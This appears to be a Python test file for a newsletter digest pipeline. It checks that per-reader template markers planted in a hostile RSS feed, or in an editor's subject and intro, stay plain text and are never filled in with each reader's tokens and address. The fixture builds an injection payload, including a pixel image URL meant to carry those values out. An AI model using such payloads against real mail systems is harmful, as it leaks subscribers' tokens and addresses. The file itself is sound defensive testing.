"""Per-reader values (links with working tokens, the address) go only where the template puts
them: a feed, a page or an editor that writes the markers gets them back as plain text.

The attack: a feed item whose image URL, title, summary or link holds the per-reader markers
(%%DIGEST_PREFERENCES_URL%% ...) had each reader's working links and address filled in, and an
<img> on the attacker's host received them when the mail was opened.
"""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from typing import Any

import lxml.html
from sqlalchemy import select

from digest import pipeline
from digest.pipeline import editor_actions
from digest.pipeline.composing import compose
from digest.pipeline.rendering import signed_recipient
from subscribers.models import MailingList, Subscriber
from tests.servers import FixtureHTTPServer, FixtureSMTPServer, Route

NOW = datetime(2026, 11, 23, 7, 0, tzinfo=UTC)
MARKERS = ("%%DIGEST_PREFERENCES_URL%%", "%%DIGEST_UNSUBSCRIBE_URL%%", "%%DIGEST_RECIPIENT_EMAIL%%")
READERS = ("amina@example.org", "kofi@example.net")
ALL = "".join(MARKERS)


def hostile_feed(base: str) -> bytes:
    """One story carrying the markers in every field a feed controls."""
    body = "".join(
        f"<p>Paragraph {i}: the harbour authority says {ALL} traffic grew again this month, "
        "and the traders agree on the figures.</p>"
        for i in range(6)
    )
    image = f"{base}/pixel.gif?p={MARKERS[0]}&amp;u={MARKERS[1]}&amp;e={MARKERS[2]}"
    return (
        '<?xml version="1.0" encoding="utf-8"?>'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:media="http://search.yahoo.com/mrss/">'
        "<channel><title>Hostile desk</title><link>https://desk.example.org/</link>"
        "<item>"
        f"<title>Harbour news {ALL}</title>"
        f"<link>https://desk.example.org/2026/11/harbour?r={MARKERS[1]}</link>"
        '<guid isPermaLink="false">hostile-markers-1</guid>'
        f"<pubDate>{format_datetime(NOW - timedelta(days=2))}</pubDate>"
        f"<category>Economy {MARKERS[2]}</category>"
        f"<description>In short: {ALL}</description>"
        f'<media:content url="{image}" medium="image">'
        f"<media:description>alt {ALL}</media:description></media:content>"
        f"<content:encoded><![CDATA[{body}]]></content:encoded>"
        "</item></channel></rss>"
    ).encode()


def _parts(message: EmailMessage) -> tuple[str, str]:
    text = message.get_body(("plain",))
    html = message.get_body(("html",))
    assert text is not None and html is not None
    return text.get_content(), html.get_content()


def test_markers_in_content_never_become_a_readers_values(
    write_config: Any, http_server: FixtureHTTPServer, smtp_server: FixtureSMTPServer
) -> None:
    http_server.routes["/hostile.xml"] = Route(hostile_feed(http_server.base))
    settings = write_config(
        {
            "sources": [
                {"name": "Hostile", "url": http_server.url("/hostile.xml"), "region": "Coast"}
            ],
            "lists": [
                {
                    "slug": "weekly",
                    "name": "The Weekly",
                    "timezone": "UTC",
                    "demo_subscribers": list(READERS),
                }
            ],
            "delivery": {
                "transport": "smtp",
                "smtp": {"host": "127.0.0.1", "port": smtp_server.port, "security": "none"},
            },
        }
    )
    with pipeline.runtime(settings, NOW) as rt:
        collected = pipeline.collect(rt, NOW)
        assert collected.new_articles == 1, [(s.error, s.problems) for s in collected.failed]
        ref = compose(rt, "weekly", NOW)
        assert ref is not None
        # The editor's own text is content too.
        editor_actions.edit_issue(
            rt, ref.id, editor="amina", now=NOW, subject=f"This week {ALL}", intro=f"Hello {ALL}"
        )
        report = pipeline.send(rt, "weekly", NOW)
        assert report.sent == len(READERS), report
        with rt.sessions() as session:
            list_id = session.scalars(select(MailingList.id)).one()
            links = {
                s.email: signed_recipient(rt, s.id, list_id, s.email)
                for s in session.scalars(select(Subscriber))
            }

    messages = smtp_server.handler.parsed()
    assert len(messages) == len(READERS)
    for message in messages:
        to = str(message["To"])
        own = links[to]
        text, html = _parts(message)
        # The subject is the editor's text, as written.
        assert ALL in str(message["Subject"]).replace(" ", "").replace("\n", "") or all(
            marker in str(message["Subject"]) for marker in MARKERS
        )
        # Each working link appears exactly where the template puts it: once in each part
        # (the footer), never inside a story, the image, the subject or the introduction.
        for value in (own.preferences_url, own.unsubscribe_url):
            assert html.count(value) == 1, (value, html.count(value))
            assert text.count(value) == 1, (value, text.count(value))
        token = own.preferences_url.rsplit("/", 1)[1]
        tree = lxml.html.document_fromstring(html)
        for image in tree.xpath("//img"):
            src = image.get("src", "")
            assert token not in src and to not in src, src
            assert to not in image.get("alt", "")
        # The address is named once in each part's footer ("you subscribed as ..."), and the
        # markers written by the feed and the editor are shown as the text they are.
        assert html.count(to) == 1 and text.count(to) == 1
        for marker in MARKERS:
            assert marker in text, marker
        assert re.search(r"Harbour news\s+%%DIGEST_PREFERENCES_URL%%", text)
